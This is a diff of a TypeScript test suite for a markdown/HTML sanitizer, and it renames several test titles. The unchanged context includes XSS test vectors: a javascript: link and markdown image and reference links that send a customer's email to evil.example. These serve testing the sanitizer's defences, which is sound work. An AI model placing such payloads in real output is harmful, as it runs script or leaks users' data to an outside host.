@@ -14,7 +14,7 @@ const tag =
   /^<(?:\/?(?:p|b|strong|i|em|ul|ol|li|code|pre|blockquote|h3|h4|table|thead|tbody|tr|th|td|del)|\/a|(?:br|hr) ?\/?|a href="(?:https?:\/\/|mailto:|tel:)[^"<>\s]*")>$/
 const illegalTags = (html: string): string[] => (html.match(/<[^>]*>?/g) ?? []).filter(found => !tag.test(found))
 
-t.test('I22, row 13: of whatever acts or fetches, nothing is left', async t => {
+t.test('I22, row 13: everything that runs code or loads something is removed', async t => {
   t.ok(xssVectors.length >= 58)
   const more = [
     '[press](javascript:window.__xss=1)',
@@ -41,7 +41,7 @@ t.test('I22, row 13: of whatever acts or fetches, nothing is left', async t => {
   }
 })
 
-t.test('I22, row 14: data leaves by none of seven doors', async t => {
+t.test('I22, row 14: data cannot leak in any of seven ways', async t => {
   const doors = {
     'inline image': '![x](https://evil.example/p?d=anna@shop.example)',
     'reference image and link': '![x][1] [go][1]\n\n[1]: https://evil.example/p?d=anna@shop.example',
@@ -87,7 +87,7 @@ t.test('NUL and surrounding blanks do not reach the database', async t => {
   t.equal(clean('<script>only this</script>'), '')
 })
 
-t.test('the words of a reply are what a reader would say aloud', async t => {
+t.test('the plain text of a reply is what a screen reader would read', async t => {
   const words = (markdown: string): string => plainText(clean(markdown))
   t.equal(words('# Hours\n\n- Mon &amp; Tue\n- **Wed**'), 'Hours\nMon & Tue\nWed')
   t.equal(words('one\ntwo'), 'one\ntwo')
